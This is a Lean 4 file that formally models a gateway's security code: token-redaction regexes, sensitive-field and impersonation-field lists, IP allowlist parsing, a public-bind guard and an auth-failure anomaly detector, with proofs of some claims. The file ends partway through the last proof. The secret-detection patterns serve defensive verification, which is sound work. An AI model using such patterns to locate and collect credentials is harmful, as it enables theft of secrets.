    ⟨.seqn [.wordB, .group 1 (.seqn [.lit "pplx-", .repCls clsTokenUD 10]), .wordB], 1⟩,
    -- \b(npm_[A-Za-z0-9]{10,})\b
    ⟨.seqn [.wordB, .group 1 (.seqn [.lit "npm_", .repCls clsAlnum 10]), .wordB], 1⟩,
    -- \b(\d{6,}:[A-Za-z0-9_-]{20,})\b   (Telegram-style bot tokens)
    ⟨.seqn [.wordB,
            .group 1 (.seqn [.repCls clsDigit 6, .lit ":", .repCls clsTokenUD 20]),
            .wordB], 1⟩,
    -- \b(eyJ[A-Za-z0-9_-]*\.eyJ[A-Za-z0-9_-]*\.[A-Za-z0-9_-]*)\b   (JWT)
    ⟨.seqn [.wordB,
            .group 1 (.seqn [.lit "eyJ", .starCls clsTokenUD, .lit ".", .lit "eyJ",
                             .starCls clsTokenUD, .lit ".", .starCls clsTokenUD]),
            .wordB], 1⟩,
    -- (?:service_role|serviceRole)["\s:=]+([A-Za-z0-9._-]{20,})
    ⟨.seqn [.altn [.lit "service_role", .lit "serviceRole"],
            .repCls clsSvcSep 1, .group 1 (.repCls clsSvcVal 20)], 1⟩ ]

/-- `maskToken`: tokens shorter than 18 characters become `***`,
    otherwise the first 6 and last 4 characters survive around an
    ellipsis. -/
def maskToken (token : String) : String :=
  if token.length < 18 then "***"
  else
    String.mk (token.toList.take 6) ++ "…" ++
      String.mk (token.toList.drop (token.length - 4))

/-- JS `block.split(/\r?\n/)`: split at each LF, additionally eating a
    CR that immediately precedes the LF. -/
def splitCrLf : List Char → List (List Char)
  | [] => [[]]
  | '\r' :: '\n' :: rest => [] :: splitCrLf rest
  | '\n' :: rest => [] :: splitCrLf rest
  | c :: rest =>
    match splitCrLf rest with
    | [] => [[c]]
    | line :: lines => (c :: line) :: lines

/-- `redactPemBlock`: keep the PEM header and footer lines around an
    ellipsis marker. -/
def redactPemBlock (block : String) : String :=
  let lines := ((splitCrLf block.toList).map String.mk).filter (fun l => !(l == ""))
  if lines.length < 2 then "***"
  else (lines.head?.getD "") ++ "\n…redacted…\n" ++ (lines.getLast?.getD "")

/-- `redactMatch`: PEM blocks get the PEM treatment; otherwise the last
    non-empty capture group (or the whole match) is masked inside the
    match. -/
def redactMatch (groups : Nat) (matched : String) (caps : Caps) : String :=
  if jsIncludes matched "PRIVATE KEY-----" then redactPemBlock matched
  else
    let present := ((List.range groups).map (fun i => capGet caps (i + 1))).filterMap id
    let nonEmpty := present.filter (fun s => s.length > 0)
    let token := nonEmpty.getLast?.getD matched
    let masked := maskToken token
    if token == matched then masked else replaceFirstSub matched token masked

/-- `redactText`: apply every pattern cumulatively (global replace). -/
def redactText (text : String) (patterns : List RedactPatternEntry) : String :=
  patterns.foldl (fun acc p => replaceAllRE p.re (redactMatch p.groups) acc) text

/-- `redactSensitiveText` under the configuration the claims fix:
    `mode = "tools"` (the default) and the default pattern set.  The
    `!text` guard returns empty strings unchanged; the pattern list is
    non-empty so the early exit for an empty list never fires. -/
def redactSensitiveText (text : String) : String :=
  if text == "" then text else redactText text defaultRedactPatterns

/-- `SENSITIVE_PAYLOAD_FIELDS` — exact spellings from the source,
    including the camelCase variants. -/
def sensitivePayloadFields : List String :=
  ["token", "tokens", "key", "keys", "secret", "secrets", "password", "passwd",
   "api_key", "apiKey", "access_token", "accessToken", "refresh_token",
   "refreshToken", "private_key", "privateKey", "service_role", "serviceRole",
   "anon_key", "anonKey", "supabase_key", "supabaseKey", "credentials", "auth"]

/-! ## Dynamic JS values

Payloads handled by the identity guard and the payload redactors are
arbitrary JSON-ish values; objects are association lists (JS objects
have unique keys — the list operations below coincide with the JS
object operations on that shape). -/

inductive JValue where
  | null
  | undef
  | bool (b : Bool)
  | num (n : Int)
  | str (s : String)
  | arr (items : List JValue)
  | obj (fields : List (String × JValue))

/-- JS test `value === undefined`. -/
def isUndefJ : JValue → Bool
  | .undef => true
  | _ => false

/-- `redactPayloadFields` (shallow): for each sensitive field name, an
    entry with exactly that key and a non-`undefined` value is replaced
    by `"[REDACTED]"`.  The source loop mutates `result[field]`; mapping
    over the entries per field is the same operation on unique-key
    objects. -/
def redactPayloadFields (entries : List (String × JValue)) : List (String × JValue) :=
  sensitivePayloadFields.foldl
    (fun acc field =>
      acc.map (fun kv =>
        if kv.1 == field && !(isUndefJ kv.2) then (kv.1, JValue.str "[REDACTED]")
        else kv))
    entries

/-! ## Identity guard (`identity-guard.ts`) -/

/-- `FORBIDDEN_IDENTITY_FIELDS`. -/
def forbiddenIdentityFields : List String :=
  ["impersonate", "impersonate_as", "impersonateAs", "post_as", "postAs",
   "send_as", "sendAs", "as_user", "asUser", "from_user", "fromUser",
   "from_id", "fromId", "actor_id", "actorId", "override_identity",
   "overrideIdentity", "spoof", "spoof_as"]

/-- `MONITORED_IDENTITY_FIELDS` (logged, never stripped). -/
def monitoredIdentityFields : List String :=
  ["agent_id", "agentId", "display_name", "displayName", "actor"]

structure IdentityGuardResult where
  sanitized : Bool
  strippedFields : List String
  originalFieldCount : Nat
deriving Repr, DecidableEq

/-- `stripIdentityFields`: remove every forbidden key (shallow).  The
    source iterates the forbidden list and deletes each present key;
    `strippedFields` therefore lists the removed keys in forbidden-list
    order.  Monitored-field logging is a side effect and not modelled. -/
def stripIdentityFields (input : List (String × JValue)) :
    List (String × JValue) × IdentityGuardResult :=
  let strippedFields :=
    forbiddenIdentityFields.filter (fun f => input.any (fun kv => kv.1 == f))
  let output := input.filter (fun kv => !(forbiddenIdentityFields.contains kv.1))
  (output, ⟨strippedFields.length > 0, strippedFields, input.length⟩)

/-- JS test `value && typeof value === "object"`: true exactly for
    arrays and (non-null) objects. -/
def isCompositeJ : JValue → Bool
  | .arr _ => true
  | .obj _ => true
  | _ => false

/-- Recursion core of `deepStripIdentityFields`.  The source tracks
    `currentDepth` against `maxDepth` and stops (returning the input
    unchanged) once `currentDepth >= maxDepth`; the remaining budget
    `maxDepth - currentDepth` is the structural fuel here, decreasing
    by one per nesting level exactly as `currentDepth + 1` does. -/
def deepStripAux : Nat → JValue → JValue
  | 0, v => v
  | Nat.succ fuel, .arr items => .arr (items.map (fun x => deepStripAux fuel x))
  | Nat.succ fuel, .obj fields =>
    let stripped := (stripIdentityFields fields).1
    .obj (stripped.map (fun kv =>
      if isCompositeJ kv.2 then (kv.1, deepStripAux fuel kv.2) else kv))
  | Nat.succ _, v => v

/-- `deepStripIdentityFields` with the source defaults
    `maxDepth = 10`, `currentDepth = 0`. -/
def deepStripIdentityFields (input : JValue) (maxDepth : Nat := 10)
    (currentDepth : Nat := 0) : JValue :=
  deepStripAux (maxDepth - currentDepth) input

/-- Whether a forbidden identity key occurs in a mapping nested at
    exactly depth `d` (top level = depth 0; each array or object
    nesting level is one step). -/
def hasForbiddenAtDepth (v : JValue) : Nat → Bool
  | 0 =>
    match v with
    | .obj fields => fields.any (fun kv => forbiddenIdentityFields.contains kv.1)
    | _ => false
  | d + 1 =>
    match v with
    | .arr items => items.any (fun x => hasForbiddenAtDepth x d)
    | .obj fields => fields.any (fun kv => hasForbiddenAtDepth kv.2 d)
    | _ => false

/-! ## IP allowlist engine (`ip-allowlist.ts`)

`net.isIP` is Node's own validator; its IPv4/IPv6 regexes are embedded
structurally: an IPv4 literal is four canonical decimal octets, an IPv6
literal is hex groups of 1–4 digits with at most one `::` (total 8
groups, or at most 7 with `::`), an optional embedded IPv4 tail
counting as two groups, and an optional `%zone` suffix. -/

/-- One canonical decimal octet `0`–`255`
    (regex `(?:[0-9]|[1-9][0-9]|1[0-9][0-9]|2[0-4][0-9]|25[0-5])`). -/
def isV4Seg (s : String) : Bool :=
  match s.toList with
  | [a] => a.isDigit
  | [a, b] => ('1' ≤ a && a ≤ '9') && b.isDigit
  | [a, b, c] =>
    (a == '1' && b.isDigit && c.isDigit) ||
    (a == '2' && ('0' ≤ b && b ≤ '4') && c.isDigit) ||
    (a == '2' && b == '5' && ('0' ≤ c && c ≤ '5'))
  | _ => false

/-- Node `net.isIPv4`. -/
def isIPv4String (s : String) : Bool :=
  match splitOnCharS '.' s with
  | [a, b, c, d] => isV4Seg a && isV4Seg b && isV4Seg c && isV4Seg d
  | _ => false

def isHexDigitChar (c : Char) : Bool :=
  c.isDigit || ('a' ≤ c && c ≤ 'f') || ('A' ≤ c && c ≤ 'F')

/-- One IPv6 group: 1–4 hex digits. -/
def isHexSeg (s : String) : Bool :=
  1 ≤ s.length && s.length ≤ 4 && s.toList.all isHexDigitChar

/-- Characters allowed in an IPv6 zone id by Node's regex
    `[0-9a-zA-Z-.:]`. -/
def isZoneChar (c : Char) : Bool :=
  c.isAlpha || c.isDigit || c == '-' || c == '.' || c == ':'

/-- Count the 16-bit units of a colon-separated group list; the last
    group may be an embedded IPv4 (2 units) when `allowV4Last`. -/
def v6SegUnits (parts : List String) (allowV4Last : Bool) : Option Nat :=
  match parts with
  | [] => some 0
  | _ =>
    let lst := parts.getLast?.getD ""
    if (parts.dropLast).all isHexSeg then
      if isHexSeg lst then some parts.length
      else if allowV4Last && isIPv4String lst then some (parts.length + 1)
      else none
    else none

/-- The address part of Node `net.isIPv6` (zone already removed). -/
def isIPv6Main (m : String) : Bool :=
  match splitDoubleColonS m with
  | [whole] =>
    (v6SegUnits (splitOnCharS ':' whole) true).any (fun u => u == 8)
  | [l, r] =>
    let lparts := if l == "" then [] else splitOnCharS ':' l
    let rparts := if r == "" then [] else splitOnCharS ':' r
    match v6SegUnits lparts false, v6SegUnits rparts true with
    | some ul, some ur => ul + ur ≤ 7
    | _, _ => false
  | _ => false

/-- Node `net.isIPv6` (with optional `%zone`). -/
def isIPv6String (s : String) : Bool :=
  match splitOnCharS '%' s with
  | [main] => isIPv6Main main
  | [main, zone] => zone.length > 0 && zone.toList.all isZoneChar && isIPv6Main main
  | _ => false

/-- Node `net.isIP`: 4, 6 or 0. -/
def netIsIP (s : String) : Nat :=
  if isIPv4String s then 4 else if isIPv6String s then 6 else 0

/-- JS `Number.parseInt(s, 10)` as an `Option` (`none` = `NaN`):
    leading whitespace, optional sign, maximal decimal-digit prefix. -/
def jsParseIntDec (s : String) : Option Int :=
  let l := s.toList.dropWhile isJsWs
  let signAndRest : Int × List Char :=
    match l with
    | '-' :: rest => (-1, rest)
    | '+' :: rest => (1, rest)
    | _ => (1, l)
  let digits := signAndRest.2.takeWhile Char.isDigit
  if digits.isEmpty then none
  else some (signAndRest.1 *
    (digits.foldl (fun acc c => acc * 10 + (c.toNat - '0'.toNat)) 0 : Nat))

/-- JS `Number.parseInt(s, 16)`: leading whitespace, optional sign,
    optional `0x` prefix, maximal hex-digit prefix. -/
def jsParseIntHex (s : String) : Option Int :=
  let l := s.toList.dropWhile isJsWs
  let signAndRest : Int × List Char :=
    match l with
    | '-' :: rest => (-1, rest)
    | '+' :: rest => (1, rest)
    | _ => (1, l)
  let body :=
    match signAndRest.2 with
    | '0' :: x :: rest => if x == 'x' || x == 'X' then rest else signAndRest.2
    | r => r
  let digits := body.takeWhile isHexDigitChar
  if digits.isEmpty then none
  else some (signAndRest.1 *
    (digits.foldl (fun acc c =>
      acc * 16 +
        (if c.isDigit then c.toNat - '0'.toNat
         else if 'a' ≤ c && c ≤ 'f' then c.toNat - 'a'.toNat + 10
         else c.toNat - 'A'.toNat + 10)) 0 : Nat))

/-- `normalizeIpLiteral`: trim, strip `[...]`, strip `%zone`,
    lowercase, and rewrite `::ffff:<v4>` to the embedded IPv4. -/
def normalizeIpLiteral (input : String) : String :=
  let trimmed := jsTrim input
  if trimmed == "" then ""
  else
    let bracketStripped :=
      if jsStartsWith trimmed "[" && jsEndsWith trimmed "]" then
        String.mk ((trimmed.toList.drop 1).dropLast)
      else trimmed
    let zoneStripped := ((splitOnCharS '%' bracketStripped).head?).getD ""
    let normalized := jsToLower (jsTrim zoneStripped)
    if jsStartsWith normalized "::ffff:" then
      let candidate := normalized.drop ("::ffff:".length)
      if netIsIP candidate == 4 then candidate else normalized
    else normalized

/-- `parseIPv4Bytes`. -/
def parseIPv4Bytes (ip : String) : Option (List Nat) :=
  if !(netIsIP ip == 4) then none
  else
    let parts := splitOnCharS '.' ip
    if !(parts.length == 4) then none
    else
      parts.mapM (fun part =>
        if part == "" then none
        else
          match jsParseIntDec part with
          | none => none
          | some v => if v < 0 || v > 255 then none else some v.toNat)

/-- `parseHexHextet`. -/
def parseHexHextet (value : String) : Option Nat :=
  if value == "" || value.length > 4 then none
  else
    match jsParseIntHex value with
    | none => none
    | some v => if v < 0 || v > 0xffff then none else some v.toNat

/-- Split a hextet into its two bytes (`value >> 8 & 0xff`,
    `value & 0xff`). -/
def hextetsToBytes (hextets : List Nat) : List Nat :=
  hextets.flatMap (fun v => [(v >>> 8) &&& 0xff, v &&& 0xff])

/-- `parseIPv6Bytes`: transliteration of the source's `::` expansion
    with optional embedded IPv4 tail. -/
def parseIPv6Bytes (ip : String) : Option (List Nat) :=
  if !(netIsIP ip == 6) then none
  else
    let parts := splitDoubleColonS ip
    if parts.length > 2 then none
    else
      let leftRaw := (parts.head?).getD ""
      let rightRaw := if parts.length == 2 then (parts.get? 1).getD "" else ""
      let leftGroups0 :=
        if leftRaw == "" then []
        else (splitOnCharS ':' leftRaw).filter (fun g => !(g == ""))
      let rightGroups0 :=
        if rightRaw == "" then []
        else (splitOnCharS ':' rightRaw).filter (fun g => !(g == ""))
      let allGroups := leftGroups0 ++ rightGroups0
      let lastGroup := if allGroups.length > 0 then (allGroups.getLast?).getD "" else ""
      let hasEmbeddedV4 := !(lastGroup == "") && strContainsChar lastGroup '.'
      let embeddedV4 := if hasEmbeddedV4 then parseIPv4Bytes lastGroup else none
      if hasEmbeddedV4 && embeddedV4.isNone then none
      else if hasEmbeddedV4 && (allGroups.dropLast).any (fun g => strContainsChar g '.') then none
      else if hasEmbeddedV4 && leftGroups0.isEmpty && rightGroups0.isEmpty then none
      else
        let leftGroups :=
          if hasEmbeddedV4 && rightGroups0.isEmpty then leftGroups0.dropLast else leftGroups0
        let rightGroups :=
          if hasEmbeddedV4 && !rightGroups0.isEmpty then rightGroups0.dropLast else rightGroups0
        match leftGroups.mapM parseHexHextet, rightGroups.mapM parseHexHextet with
        | some leftHextets, some rightHextets =>
          let embeddedHextets :=
            match embeddedV4 with
            | some bytes =>
              [(((bytes.get? 0).getD 0) <<< 8) ||| ((bytes.get? 1).getD 0),
               (((bytes.get? 2).getD 0) <<< 8) ||| ((bytes.get? 3).getD 0)]
            | none => []
          let total := leftHextets.length + rightHextets.length + embeddedHextets.length
          if total > 8 then none
          else if parts.length == 1 then
            if !(total == 8) then none
            else some (hextetsToBytes (leftHextets ++ rightHextets ++ embeddedHextets))
          else
            let zerosToInsert := 8 - total
            if zerosToInsert < 1 then none
            else
              let hextets :=
                leftHextets ++ List.replicate zerosToInsert 0 ++ rightHextets ++ embeddedHextets
              if !(hextets.length == 8) then none
              else some (hextetsToBytes hextets)
        | _, _ => none

/-- `maskNetwork`: zero the host bits beyond `prefixLen`. -/
def maskNetwork (bytes : List Nat) (prefixLen : Int) : List Nat :=
  if prefixLen ≤ 0 then bytes.map (fun _ => 0)
  else
    let fullBytes := (prefixLen / 8).toNat
    let remBits := (prefixLen % 8).toNat
    if fullBytes ≥ bytes.length then bytes
    else if remBits > 0 then
      let mask := (0xff <<< (8 - remBits)) &&& 0xff
      (bytes.zip (List.range bytes.length)).map (fun bi =>
        if bi.2 < fullBytes then bi.1
        else if bi.2 == fullBytes then bi.1 &&& mask
        else 0)
    else
      (bytes.zip (List.range bytes.length)).map (fun bi =>
        if bi.2 < fullBytes then bi.1 else 0)

/-- An allowlist entry.  The source field `prefix` is called
    `prefixLen` here (`prefix` clashes with Lean syntax). -/
structure IpAllowlistEntry where
  raw : String
  version : Nat
  network : List Nat
  prefixLen : Int
deriving Repr, DecidableEq

/-- `parseCidrToken` (`{ok: false}` is `none`). -/
def parseCidrToken (rawToken : String) : Option IpAllowlistEntry :=
  let token := jsTrim rawToken
  if token == "" then none
  else
    let pieces := splitOnCharS '/' token
    if pieces.length > 2 then none
    else
      let ipRaw := normalizeIpLiteral ((pieces.head?).getD "")
      if ipRaw == "" then none
      else
        let version := netIsIP ipRaw
        if !(version == 4 || version == 6) then none
        else
          let prefixRaw := if pieces.length == 2 then jsTrim ((pieces.get? 1).getD "") else ""
          let prefixVal : Option Int :=
            if prefixRaw.length > 0 then jsParseIntDec prefixRaw
            else some (if version == 4 then 32 else 128)
          let maxPrefixLen : Int := if version == 4 then 32 else 128
          match prefixVal with
          | none => none
          | some p =>
            if p < 0 || p > maxPrefixLen then none
            else
              match (if version == 4 then parseIPv4Bytes ipRaw else parseIPv6Bytes ipRaw) with
              | none => none
              | some bytes => some ⟨token, version, maskNetwork bytes p, p⟩

inductive IpAllowlistParseResult where
  | ok (entries : List IpAllowlistEntry)
  | err (error : String) (invalidEntries : List String)
deriving Repr, DecidableEq

/-- The fixed error text of `parseIpAllowlist`. -/
def ipAllowlistErrorMsg : String :=
  "Invalid IP allowlist entries. Use comma-separated IPs or CIDRs " ++
  "(e.g. \"203.0.113.10,198.51.100.0/24,2001:db8::/32\")."

/-- `parseIpAllowlist`: split on commas, trim, drop empties, parse each
    token, and fail with the collected invalid tokens when any token is
    malformed. -/
def parseIpAllowlist (raw : String) : IpAllowlistParseResult :=
  let tokens := ((splitOnCharS ',' raw).map jsTrim).filter (fun s => !(s == ""))
  let acc := tokens.foldl
    (fun (acc : List IpAllowlistEntry × List String) token =>
      match parseCidrToken token with
      | none => (acc.1, acc.2 ++ [token])
      | some e => (acc.1 ++ [e], acc.2))
    ([], [])
  if acc.2.length > 0 then .err ipAllowlistErrorMsg acc.2
  else .ok acc.1

/-! ## Public bind guard (`public-bind-guard.ts`) -/

/-- The two environment variables the guard reads. -/
structure BindEnv where
  allowPublicBind : Option String
  publicBindIpAllowlist : Option String
deriving Repr, DecidableEq

/-- `PublicBindGuardOptions` (the source defaults `env` to
    `process.env`; here it is always explicit). -/
structure PublicBindGuardOptions where
  bindHost : String
  env : BindEnv
  hasToken : Option Bool
  hasPassword : Option Bool
  hasTailscaleAuth : Option Bool
  tlsEnabled : Option Bool
deriving Repr, DecidableEq

structure PublicBindGuardResult where
  allowed : Bool
  reason : Option String
  remediations : Option (List String)
deriving Repr, DecidableEq

/-- The Tailscale CGNAT test `/^100\.(6[4-9]|[7-9]\d|1[01]\d|12[0-7])\./`:
    the alternatives are exactly the canonical decimal numerals 64–127,
    so the regex fires exactly on prefixes `100.<n>.` for n ∈ [64,127]. -/
def isTailscaleCgnat (normalized : String) : Bool :=
  (List.range 64).any (fun i => jsStartsWith normalized ("100." ++ toString (64 + i) ++ "."))

/-- `isPublicBindAddress`. -/
def isPublicBindAddress (host : String) : Bool :=
  let normalized := jsToLower (jsTrim host)
  if normalized == "0.0.0.0" then true
  else if normalized == "::" || normalized == "[::]" then true
  else if normalized == "127.0.0.1" || jsStartsWith normalized "127." then false
  else if normalized == "::1" || normalized == "[::1]" then false
  else if jsStartsWith normalized "::ffff:127." then false
  else if normalized == "localhost" then false
  else if isTailscaleCgnat normalized then false
  else true

/-- `parsePublicBindIpAllowlist`: `(env.OPENCLAW_PUBLIC_BIND_IP_ALLOWLIST
    ?? "").trim()` fed to the allowlist parser. -/
def parsePublicBindIpAllowlist (env : BindEnv) : IpAllowlistParseResult :=
  parseIpAllowlist (jsTrim (env.publicBindIpAllowlist.getD ""))

/-- `assertPublicBindSafe`: loopback always admits; a public bind must
    pass opt-in, allowlist, TLS and authentication gates in order. -/
def assertPublicBindSafe (options : PublicBindGuardOptions) : PublicBindGuardResult :=
  if !(isPublicBindAddress options.bindHost) then ⟨true, none, none⟩
  else
    let allowPublic := options.env.allowPublicBind == some "true"
    if !allowPublic then
      ⟨false,
       some ("Refusing to bind gateway to public address '" ++ options.bindHost ++
             "' without explicit opt-in"),
       some ["Set OPENCLAW_ALLOW_PUBLIC_BIND=true to explicitly allow public binding",
             "Or set HOST=127.0.0.1 to bind to loopback only",
             "Or use SSH tunnel: ssh -L 18789:localhost:18789 user@host",
             "Or use Tailscale/ZeroTier for private networking"]⟩
    else
      match parsePublicBindIpAllowlist options.env with
      | .err e _ =>
        ⟨false,
         some ("Public binding requires a valid IP allowlist (" ++ e ++ ")"),
         some ["Fix OPENCLAW_PUBLIC_BIND_IP_ALLOWLIST (comma-separated IPs/CIDRs)",
               "Example: OPENCLAW_PUBLIC_BIND_IP_ALLOWLIST=\"203.0.113.10,198.51.100.0/24\""]⟩
      | .ok entries =>
        if entries.length == 0 then
          ⟨false,
           some "Public binding requires an IP allowlist (OPENCLAW_PUBLIC_BIND_IP_ALLOWLIST is empty)",
           some ["Set OPENCLAW_PUBLIC_BIND_IP_ALLOWLIST=<ip1>,<ip2> to specify allowed client IPs"]⟩
        else if !(options.tlsEnabled == some true) then
          ⟨false,
           some "Public binding requires gateway TLS (HTTPS/WSS) to be enabled",
           some ["Enable gateway TLS (HTTPS/WSS): set gateway.tls.enabled=true",
                 "Optionally pin TLS fingerprint on clients (gateway.remote.tlsFingerprint)."]⟩
        else
          let hasAuth := options.hasToken.getD false || options.hasPassword.getD false ||
            options.hasTailscaleAuth.getD false
          if !hasAuth then
            ⟨false,
             some "Public binding requires authentication to be configured",
             some ["Configure authentication:",
                   "  - Set OPENCLAW_GATEWAY_TOKEN (recommended) or OPENCLAW_GATEWAY_PASSWORD",
                   "  - Or enable Tailscale Serve auth (gateway.tailscale.mode=serve)"]⟩
          else ⟨true, none, none⟩

/-! ## Anomaly detector (`anomaly-detector.ts`)

`Date.now()` is an explicit `now : Int` argument; the singleton's
mutable state is threaded explicitly.  Logging and the webhook POST
never influence the returned event or the counters and are not
modelled; the IP-blocking side effect of `handleAnomalyEvent` is. -/

structure AnomalyDetectorConfig where
  webhookUrl : String
  enableIpBlocking : Bool
  ipBlockDurationMs : Int
  authFailureThreshold : Nat
  authFailureWindowMs : Int
  requestRateThreshold : Nat
  writeVolumeThreshold : Nat
deriving Repr, DecidableEq

/-- `DEFAULT_CONFIG`. -/
def defaultAnomalyConfig : AnomalyDetectorConfig :=
  ⟨"", false, 5 * 60 * 1000, 10, 60 * 1000, 100, 1000⟩

inductive AnomalyType where
  | authFailureBurst
  | requestRateSpike
  | abnormalWriteVolume
  | identityManipulation
  | dangerousCommand
  | publicBindAttempt
deriving Repr, DecidableEq

inductive AnomalySeverity where
  | low
  | medium
  | high
  | critical
deriving Repr, DecidableEq

/-- `AnomalyEvent`; the `details` records of the three built-in events
    hold only numbers. -/
structure AnomalyEvent where
  type : AnomalyType
  timestamp : Int
  sourceIp : Option String
  severity : AnomalySeverity
  details : List (String × Int)
deriving Repr, DecidableEq

/-- The mutable fields of `AnomalyDetectorState`. -/
structure AnomalyDetectorState where
  authFailures : List (String × List Int)
  requestCounts : List (String × List Int)
  writeCounts : List Int
  blockedIps : List (String × Int)
  config : AnomalyDetectorConfig
deriving Repr, DecidableEq

/-- JS `Map.get`. -/
def mapGet {α : Type} (m : List (String × α)) (k : String) : Option α :=
  (m.find? (fun kv => kv.1 == k)).map (fun kv => kv.2)

/-- JS `Map.set` (overwrite in place, else append). -/
def mapSet {α : Type} (m : List (String × α)) (k : String) (v : α) : List (String × α) :=
  match m with
  | [] => [(k, v)]
  | kv :: rest => if kv.1 == k then (k, v) :: rest else kv :: mapSet rest k v

/-- JS `Map.delete`. -/
def mapDelete {α : Type} (m : List (String × α)) (k : String) : List (String × α) :=
  m.filter (fun kv => !(kv.1 == k))

/-- A freshly constructed detector. -/
def initialAnomalyState (config : AnomalyDetectorConfig) : AnomalyDetectorState :=
  ⟨[], [], [], [], config⟩

/-- `blockIp`. -/
def blockIp (now : Int) (ip : String) (st : AnomalyDetectorState) : AnomalyDetectorState :=
  if !st.config.enableIpBlocking then st
  else { st with blockedIps := mapSet st.blockedIps ip (now + st.config.ipBlockDurationMs) }

/-- `handleAnomalyEvent` (state part: the conditional IP block). -/
def handleAnomalyEvent (now : Int) (event : AnomalyEvent) (st : AnomalyDetectorState) :
    AnomalyDetectorState :=
  if st.config.enableIpBlocking &&
      (event.severity == .high || event.severity == .critical) then
    match event.sourceIp with
    | some ip => if ip == "" then st else blockIp now ip st
    | none => st
  else st

/-- `recordAuthFailure`. -/
def recordAuthFailure (now : Int) (sourceIp : String) (st : AnomalyDetectorState) :
    Option AnomalyEvent × AnomalyDetectorState :=
  let windowStart := now - st.config.authFailureWindowMs
  let failures0 := (mapGet st.authFailures sourceIp).getD []
  let failures := failures0.filter (fun ts => ts > windowStart) ++ [now]
  let st1 := { st with authFailures := mapSet st.authFailures sourceIp failures }
  if failures.length ≥ st.config.authFailureThreshold then
    let event : AnomalyEvent :=
      ⟨.authFailureBurst, now, some sourceIp, .high,
       [("failureCount", (failures.length : Int)),
        ("windowMs", st.config.authFailureWindowMs),
        ("threshold", (st.config.authFailureThreshold : Int))]⟩
    let st2 := handleAnomalyEvent now event st1
    let st3 := { st2 with authFailures := mapDelete st2.authFailures sourceIp }
    (some event, st3)
  else (none, st1)

/-- `recordRequest` (1-second window hardcoded; no clearing on fire). -/
def recordRequest (now : Int) (sourceIp : String) (st : AnomalyDetectorState) :
    Option AnomalyEvent × AnomalyDetectorState :=
  let windowStart := now - 1000
  let requests0 := (mapGet st.requestCounts sourceIp).getD []
  let requests := requests0.filter (fun ts => ts > windowStart) ++ [now]
  let st1 := { st with requestCounts := mapSet st.requestCounts sourceIp requests }
  if requests.length ≥ st.config.requestRateThreshold then
    let event : AnomalyEvent :=
      ⟨.requestRateSpike, now, some sourceIp, .medium,
       [("requestCount", (requests.length : Int)),
        ("windowMs", 1000),
        ("threshold", (st.config.requestRateThreshold : Int))]⟩
    (some event, handleAnomalyEvent now event st1)
  else (none, st1)

/-- `recordWrite` (process-wide list, 1-minute window hardcoded). -/
def recordWrite (now : Int) (st : AnomalyDetectorState) :
    Option AnomalyEvent × AnomalyDetectorState :=
  let windowStart := now - 60 * 1000
  let writes := st.writeCounts.filter (fun ts => ts > windowStart) ++ [now]
  let st1 := { st with writeCounts := writes }
  if writes.length ≥ st.config.writeVolumeThreshold then
    let event : AnomalyEvent :=
      ⟨.abnormalWriteVolume, now, none, .high,
       [("writeCount", (writes.length : Int)),
        ("windowMs", 60 * 1000),
        ("threshold", (st.config.writeVolumeThreshold : Int))]⟩
    (some event, handleAnomalyEvent now event st1)
  else (none, st1)

/-- Run `recordAuthFailure` over a list of call times, collecting the
    returned events in order. -/
def runAuthFailures (ip : String) (times : List Int) (st : AnomalyDetectorState) :
    List (Option AnomalyEvent) × AnomalyDetectorState :=
  match times with
  | [] => ([], st)
  | t :: rest =>
    let step := recordAuthFailure t ip st
    let tail := runAuthFailures ip rest step.2
    (step.1 :: tail.1, tail.2)

/-! # Theorems for the claims -/

/-! ## C1 — public bind guard gate structure -/

/-- C1: for every bind context whose host `isPublicBindAddress`
    classifies as non-public, `assertPublicBindSafe` returns
    `allowed = true` regardless of env, TLS and auth flags; for every
    public host, `allowed = true` holds exactly when
    G1 (`OPENCLAW_ALLOW_PUBLIC_BIND = "true"`),
    G2 (the allowlist parses and yields at least one entry),
    G3 (`tlsEnabled === true`) and
    G4 (at least one of token/password/Tailscale auth) all hold. -/
theorem claim_C1 (opts : PublicBindGuardOptions) :
    (assertPublicBindSafe opts).allowed =
      (!(isPublicBindAddress opts.bindHost) ||
        ((opts.env.allowPublicBind == some "true") &&
         (match parsePublicBindIpAllowlist opts.env with
          | .ok entries => !entries.isEmpty
          | .err _ _ => false) &&
         (opts.tlsEnabled == some true) &&
         (opts.hasToken.getD false || opts.hasPassword.getD false ||
          opts.hasTailscaleAuth.getD false))) := by
  unfold assertPublicBindSafe
  cases hpub : isPublicBindAddress opts.bindHost
  · simp [hpub]
  · cases hG1 : (opts.env.allowPublicBind == some "true")
    · simp [hpub, hG1]
    · cases hp : parsePublicBindIpAllowlist opts.env with
      | err e inv => simp [hpub, hG1, hp]
      | ok entries =>
        cases entries with
        | nil => simp [hpub, hG1, hp]
        | cons e es =>
          cases hT : (opts.tlsEnabled == some true)
          · simp [hpub, hG1, hp, hT]
          · cases hA : (opts.hasToken.getD false || opts.hasPassword.getD false ||
                opts.hasTailscaleAuth.getD false)
            · simp [hpub, hG1, hp, hT, hA]
            · simp [hpub, hG1, hp, hT, hA]

/-! ## C4 — all-or-nothing allowlist parsing -/

theorem parseIpAllowlist_foldl (tokens : List String)
    (accE : List IpAllowlistEntry) (accI : List String) :
    tokens.foldl
      (fun (acc : List IpAllowlistEntry × List String) token =>
        match parseCidrToken token with
        | none => (acc.1, acc.2 ++ [token])
        | some e => (acc.1 ++ [e], acc.2))
      (accE, accI) =
    (accE ++ tokens.filterMap parseCidrToken,
     accI ++ tokens.filter (fun t => (parseCidrToken t).isNone)) := by
  induction tokens generalizing accE accI with
  | nil => simp
  | cons t ts ih =>
    cases hp : parseCidrToken t with
    | none => simp [hp, ih]
    | some e => simp [hp, ih]

/-- C4: `parseIpAllowlist` is all-or-nothing — with `bad` the list of
    comma-separated tokens (trimmed, empties skipped) the token parser
    rejects, the result is an error listing exactly `bad` when `bad` is
    non-empty, and otherwise `ok` with one entry per token; in
    particular `""` parses to `ok []` and `"1.2.3.4/33"` fails listing
    exactly that token. -/
theorem claim_C4 :
    (∀ raw : String,
      parseIpAllowlist raw =
        (let tokens := ((splitOnCharS ',' raw).map jsTrim).filter (fun s => !(s == ""))
         let bad := tokens.filter (fun t => (parseCidrToken t).isNone)
         if bad.isEmpty then .ok (tokens.filterMap parseCidrToken)
         else .err ipAllowlistErrorMsg bad)) ∧
    parseIpAllowlist "" = .ok [] ∧
    parseIpAllowlist "1.2.3.4/33" = .err ipAllowlistErrorMsg ["1.2.3.4/33"] := by
  refine ⟨fun raw => ?_, by decide, by decide⟩
  unfold parseIpAllowlist
